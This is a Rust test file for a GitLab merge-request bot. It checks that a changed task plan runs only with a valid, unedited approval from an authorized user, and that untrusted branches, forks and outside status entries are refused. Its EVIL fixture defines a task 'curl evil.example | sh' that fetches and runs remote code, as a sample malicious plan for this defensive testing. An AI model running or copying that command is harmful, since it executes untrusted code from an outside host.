//! Which plan, of which merge request at GitLab: nobody's tasks are run but those of a trusted
//! branch, or those that stand approved.

#![expect(
    clippy::unwrap_used,
    reason = "a test that cannot be set up has failed"
)]

use omk_action::id::Sha256;
use serde_json::{Value, json};

use crate::forge_world::PLAN;
use crate::gitlab_security::{Asked, all_is_well, pushes_ago, told};
use crate::gitlab_world::{GitLabWorld, NUMBER, PROJECT, REQUEST, SOURCE};

const EVIL: &str = "\
version: 1
name: widget
tasks:
  - { id: fix, run: curl evil.example | sh, write_set: [fix.txt] }
deliver: { as: push }
protect: []
commands: { permission: triage }
";

fn digest(text: &str) -> String {
    Sha256::of(text.as_bytes()).to_string()
}

/// A world whose merge request changes the plan.
fn with_changed_plan() -> GitLabWorld {
    let world = GitLabWorld::start();
    pushes_ago(&world, 1800, &[("omk.yaml", EVIL)]);
    world
}

/// That the next run uses the plan of the base branch, and says what is to be approved.
#[track_caller]
fn is_not_approved(world: &GitLabWorld, what: &str) {
    let request = Asked::by(world, "maintainer", "/omk run").accepted();
    assert_eq!(
        request["plan"]["digest"],
        digest(PLAN),
        "{what}: {request:#}"
    );
    assert_eq!(
        request["plan"]["commit"],
        world.tip("main").as_str(),
        "{what}"
    );
    assert_eq!(request["approved_by"], Value::Null, "{what}");
    let reply = world.replies(REQUEST).pop().unwrap();
    assert!(
        reply.contains(&format!("/omk approve {}", digest(EVIL))),
        "{what}: {reply}"
    );
}

#[track_caller]
fn is_approved(world: &GitLabWorld, by: &str) {
    let request = Asked::by(world, "maintainer", "/omk run").accepted();
    assert_eq!(
        (&request["plan"]["digest"], &request["approved_by"]),
        (&json!(digest(EVIL)), &json!(by))
    );
    assert_eq!(
        request["rules"],
        world.tip("main").as_str(),
        "what governs is the default branch's"
    );
}

#[test]
fn an_approval_counts_as_long_as_it_stands_unedited_and_its_author_may() {
    let world = with_changed_plan();
    is_not_approved(&world, "nobody has approved it");
    let approve = format!("/omk approve {}", digest(EVIL));
    // By whom, and how, it is none.
    for (login, body) in [
        ("drive-by", approve.clone()),
        ("reader", approve.clone()),
        ("maintainer", format!("> {approve}")),
        ("maintainer", format!("```\n{approve}\n```")),
        (
            "maintainer",
            format!("/omk approve {}", &digest(EVIL)[..11]),
        ),
        ("maintainer", format!("/omk approve {}", digest(PLAN))),
    ] {
        world.comments(login, &body);
    }
    let system = json!({"iid": REQUEST, "username": "maintainer", "body": approve, "system": true});
    world.door.control("notes", &system);
    world.door.control(
        "notes",
        &json!({"iid": REQUEST, "username": crate::gitlab_world::BOT, "body": approve}),
    );
    is_not_approved(&world, "by nobody who may");
    let edited = world.comments("contributor", "Looks good.");
    world.passes(2);
    world.edits("contributor", &edited, &approve);
    is_not_approved(&world, "it was edited into one");
    let standing = world.comments("contributor", &approve);
    is_approved(&world, "contributor");
    // The approver has lost the role; nobody can say; and has it again.
    world.level("contributor", 20);
    is_not_approved(&world, "lost the role");
    world.level("contributor", 30);
    is_approved(&world, "contributor");
    world.door.control(
        "users",
        &json!({"username": "contributor", "state": "blocked"}),
    );
    is_not_approved(&world, "blocked");
    world.door.control(
        "users",
        &json!({"username": "contributor", "state": "active"}),
    );
    // Another byte, another plan.
    pushes_ago(&world, 900, &[("omk.yaml", &format!("{EVIL}# and more\n"))]);
    let request = Asked::by(&world, "maintainer", "/omk run").accepted();
    assert_eq!(
        (&request["plan"]["digest"], &request["approved_by"]),
        (&json!(digest(PLAN)), &Value::Null)
    );
    pushes_ago(&world, 600, &[("omk.yaml", EVIL)]);
    is_approved(&world, "contributor");
    // Edited afterwards, though it still says the same; a maintainer can do that to others' notes.
    world.passes(2);
    world.edits("maintainer", &standing, &format!("{approve} "));
    is_not_approved(&world, "it was edited");
    let deleted = world.comments("owner", &approve);
    is_approved(&world, "owner");
    let path = format!("/merge_requests/{REQUEST}/notes/{}", deleted["id"]);
    assert_eq!(
        world.api("owner", "DELETE", &path, &Value::Null).status,
        204
    );
    is_not_approved(&world, "it was deleted");
    // On another merge request it is about nothing here.
    world.git(&["checkout", "--quiet", "-b", "other", "main"]);
    world.pushes("contributor", "other", &[("other.txt", "x\n")]);
    world.opens(20, "contributor", "other", &json!({"title": "Another"}));
    world.comments_on(20, "owner", &approve);
    is_not_approved(&world, "it is on another merge request");
}

#[test]
fn an_approval_whose_author_nobody_can_ask_about_does_not_count() {
    let world = with_changed_plan();
    world.comments("contributor", &format!("/omk approve {}", digest(EVIL)));
    // The first answer is about who wrote `/omk run`.
    world.fault(&json!({"path": "/members/all/", "nth": 2, "status": 500, "times": 1000}));
    let asked = Asked::by(&world, "maintainer", "/omk run");
    let request: Value = serde_json::from_str(&asked.job.files["request.json"]).unwrap();
    assert!(
        request.is_null() || request["plan"]["digest"] == digest(PLAN),
        "{request:#}"
    );
    all_is_well(&world);
    is_approved(&world, "contributor");
}

#[test]
fn a_base_that_anybody_could_have_made_and_a_fork_are_not_run() {
    let world = GitLabWorld::start();
    // The merge request's author makes a branch with their own plan, and points the merge request
    // at it.
    world.git(&["checkout", "--quiet", "-b", "stage", "main"]);
    world.pushes("contributor", "stage", &[("omk.yaml", EVIL)]);
    let target = |branch: &str| {
        let body = json!({"target_branch": branch});
        world
            .api(
                "contributor",
                "PUT",
                &format!("/merge_requests/{REQUEST}"),
                &body,
            )
            .expect(200)
    };
    target("stage");
    insta::assert_snapshot!(Asked::by(&world, "maintainer", "/omk run").refused(), @"
    To `maintainer`:

    😕 **Nothing was done: the target branch `stage` is not trusted**

    Tasks and gates are read from the target branch. Whoever can push can make such a branch and point the merge request at it, so it counts only if it is the default branch or protected.

    Protect `stage` (Settings > Repository > Protected branches), or change the merge request's target branch to `main`.
    ");
    Asked::by(
        &world,
        "maintainer",
        &format!("/omk run {}", world.tip(SOURCE)),
    )
    .refused();
    Asked::by(&world, "maintainer", "/omk plan").refused();
    Asked::by(&world, "maintainer", "/omk approve 06e5d1070518").refused();
    // Protected for a moment, as far as the answer about another branch says.
    told(
        &world,
        "/repository/branches/stage",
        &json!({"name": "main", "protected": true, "commit": {"id": world.tip("main")}}),
    );
    Asked::by(&world, "maintainer", "/omk run").refused();
    all_is_well(&world);
    world.door.control("protect", &json!({"branch": "stage"}));
    let request = Asked::by(&world, "maintainer", "/omk run").accepted();
    assert_eq!(
        (&request["plan"]["digest"], &request["rules"]),
        (&json!(digest(EVIL)), &json!(world.tip("main")))
    );
    target("main");
    // The retarget is undone; what governs is the default branch's plan again.
    let request = Asked::by(&world, "maintainer", "/omk run").accepted();
    assert_eq!(request["plan"]["digest"], digest(PLAN));
    // The head is in a fork, in a project that is gone, and in one that only calls itself this one.
    world.door.control(
        "projects",
        &json!({"path": "drive-by/widget", "id": 8, "fork_of": PROJECT}),
    );
    for source in [json!(8), json!(null)] {
        world.door.control(
            "change_merge_request",
            &json!({"iid": REQUEST, "set": {"source_project_id": source}}),
        );
        let reply = Asked::by(&world, "maintainer", "/omk run").refused();
        assert!(
            reply.contains("comes from a fork") || reply.contains("is gone"),
            "{source}: {reply}"
        );
        Asked::by(
            &world,
            "maintainer",
            &format!("/omk run {}", world.tip(SOURCE)),
        )
        .refused();
        Asked::by(
            &world,
            "maintainer",
            &format!("/omk approve {}", digest(EVIL)),
        )
        .refused();
    }
    world.door.control("delete_project", &json!({"project": 8}));
    world.door.control(
        "change_merge_request",
        &json!({"iid": REQUEST, "set": {"source_project_id": 8}}),
    );
    Asked::by(&world, "maintainer", "/omk run").refused();
    world.door.control(
        "change_merge_request",
        &json!({"iid": REQUEST, "set": {"source_project_id": NUMBER}}),
    );
    let closed = json!({"state_event": "close"});
    world
        .api(
            "contributor",
            "PUT",
            &format!("/merge_requests/{REQUEST}"),
            &closed,
        )
        .expect(200);
    assert!(
        Asked::by(&world, "maintainer", "/omk run")
            .refused()
            .contains("closed")
    );
}

#[test]
fn a_status_that_somebody_else_wrote_leads_to_no_state_and_to_nothing_that_is_cancelled() {
    let world = GitLabWorld::start();
    // The bot may cancel what runs on main, as an account that may merge there.
    world
        .door
        .control("protect", &json!({"branch": "main", "merge": 30}));
    let (head, other) = (world.tip(SOURCE), world.pipeline("schedule", "maintainer"));
    world
        .door
        .put_artifacts(other.jobs["omk-run"], b"PK\x03\x04 and then nothing");
    let id = other.id;
    let url = format!(
        "{}/{PROJECT}/-/pipelines/{id}#omk/mr-12/20260101t000000z-aaaaaa/{id}/1",
        world.door.site
    );
    let status = |login: &str, state: &str| {
        let status = json!({"state": state, "name": "omk", "target_url": url});
        world
            .api(login, "POST", &format!("/statuses/{head}"), &status)
            .expect(201)
    };
    status("contributor", "running");
    world
        .omk_ci(
            "intake",
            &world.hooked(&world.comments("maintainer", "/omk cancel")),
            &[],
        )
        .exits(0);
    let told = world.get(&format!("/pipelines/{id}"));
    assert_ne!(
        told["status"], "canceled",
        "a person's status leads to it: {told:#}"
    );
    status("contributor", "success");
    assert_eq!(
        Asked::by(&world, "maintainer", "/omk retry").accepted()["previous"],
        Value::Null
    );
    // Of ours it does.
    status("publish", "success");
    let request = Asked::by(&world, "maintainer", "/omk retry").accepted();
    let previous = json!({"run": "20260101t000000z-aaaaaa", "artifact": other.jobs["omk-run"]});
    assert_eq!(request["previous"], previous);
}
